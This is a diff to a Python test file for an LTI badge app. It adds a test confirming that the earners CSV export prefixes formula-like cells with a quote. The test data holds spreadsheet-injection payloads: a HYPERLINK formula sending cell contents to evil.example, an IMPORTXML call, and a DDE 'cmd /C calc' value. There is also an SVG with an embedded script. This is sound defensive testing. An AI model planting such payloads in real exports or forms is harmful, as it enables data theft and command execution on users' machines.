@@ -13,7 +13,8 @@ from datetime import datetime, timezone
 import pytest
 from sqlalchemy import select
 
-from lti_badger.models import Achievement, Activity, AuditEvent, Award, Credential, Progress
+from lti_badger.models import Achievement, Activity, AuditEvent, Award, Credential, Person, Progress
+from tests.factories_awards import make_achievement
 
 SVG_WITH_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 
@@ -105,6 +106,31 @@ def test_design_criteria_preview_activate_and_manual_actions(app, courses, as_pe
     rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
     assert rows[0][0] == "learner" and len(rows) == 1 + 3
     assert {r[4] for r in rows[1:]} == {"active", "revoked", "not_earned"}
+
+
+
+def test_earners_csv_neutralises_formulas(app, courses, as_person):
+    """Issue 12 finding 5: a learner name, e-mail, LTI user id or award reason that starts with
+    = + - @, a tab or a CR reaches the spreadsheet as text (a leading quote), read back with
+    Python's csv reader."""
+    a, _ = courses
+    hostile = {"name": '=HYPERLINK("https://evil.example/?"&B2,"open")', "email": "@SUM(1+1)@evil.example",
+               "sub": "+cmd|' /C calc'!A0"}
+    with app.extensions["lti_badger"].sessions() as s:
+        person = s.get(Person, a.learners[0].id)
+        for field, value in hostile.items():
+            setattr(person, field, value)
+        ach, _ = make_achievement(s, a.course, name="-Badge")
+        s.commit()
+    teacher = as_person(a, a.instructor, "instructor")
+    reason = '=IMPORTXML("https://evil.example","//a")'
+    assert teacher.post("/course/awards", {"person_id": a.learners[0].id, "achievement_id": ach.id,
+                                           "reason": reason}).status_code == 303
+    rows = list(csv.reader(io.StringIO(teacher.get("/course/earners.csv").get_data(as_text=True))))
+    mine = [r for r in rows[1:] if r[0].endswith('"open")')]
+    assert mine and mine[0][:4] == ["'" + hostile["name"], "'" + hostile["email"], "'" + hostile["sub"], "'-Badge"]
+    assert mine[0][8] == "'" + reason
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
 
 
 def test_hostile_svg_upload_is_refused_and_nothing_is_stored(app, courses, as_person):
